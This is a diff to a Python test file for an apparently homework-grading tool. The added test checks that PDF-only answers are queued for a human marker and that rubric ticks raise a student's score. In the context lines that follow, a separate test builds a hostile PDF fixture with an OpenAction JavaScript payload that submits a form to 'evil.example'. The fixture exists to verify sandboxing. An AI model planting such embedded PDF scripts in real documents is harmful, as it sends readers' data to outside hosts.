@@ -130,6 +130,34 @@ def test_which_pages_are_about_a_question(question: str, said: str, pages: list[
 
 
 @pytest.mark.slow
+def test_what_is_in_a_pdf_alone_waits_for_a_person(tmp_path: Path, regard) -> None:
+    """Words, a proof, and an expression that was asked for as a function: none of them is a zero."""
+    asked = '[[question]]\nid = "2"\nclaim = "average-of-two"\n[[question]]\nid = "3"\nclaim = "singular-tail"\n'
+    (tmp_path / "hw.toml").write_text(f'{ASSIGNMENT}{asked}kind = "derivation"\nchecklist = ["shows it", "uses (a)"]\n')
+    (tmp_path / "subs" / "ada").mkdir(parents=True)
+    (tmp_path / "subs" / "ada" / "written.pdf").write_bytes(make_pdf(["all of it"]))
+    (tmp_path / "secret.txt").write_text("a secret of sixteen")
+    words = [
+        str(tmp_path / "subs"),
+        "--assignment",
+        str(tmp_path / "hw.toml"),
+        "--secret",
+        str(tmp_path / "secret.txt"),
+    ]
+    folder = tmp_path / "grades"
+    code, out, _ = regard("grade", *words, "--out", str(folder))
+    assert (code, "wait for a person: 4" in out) == (0, True)
+    items = json.loads(re.search("id=data>(.*?)</script>", (folder / "marking.html").read_text())[1])["items"]
+    assert [(item["question"], item["mine"], len(item["checklist"])) for item in items] == [
+        *(("1A.i", [0], 1), ("1A.ii", [0], 1), ("3", [0], 2), ("2", [0], 0))
+    ]
+    ticked = {"student": "ada", "question": "3", "ticks": [True, False]}
+    (folder / "written.json").write_text(json.dumps({"assignment": "hw", "marks": [ticked], "base": []}))
+    code, out, _ = regard("grade", *words, "--out", str(folder))
+    assert "ada: 0 -> 0.5 (3: 0 -> 0.5)" in out
+
+
+@pytest.mark.slow
 def test_the_pages_stand_beside_the_checklist(tmp_path: Path, regard, browser) -> None:
     """And nothing of the file runs there or reaches out: scripts and links of a PDF stay in the jail."""
     script = "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\)) >>"
